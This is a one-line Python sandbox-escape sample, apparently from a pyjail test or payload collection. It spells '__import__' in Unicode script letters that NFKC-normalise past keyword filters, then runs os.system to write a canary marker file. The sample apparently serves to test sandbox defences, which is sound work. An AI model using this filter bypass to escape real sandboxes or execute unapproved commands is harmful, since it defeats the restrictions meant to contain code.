# source: pyjail lore
# effect: process

__𝒾𝓂𝓅ℴ𝓇𝓉__("os").system("echo names/nfkc_identifier > /tmp/canary/process")
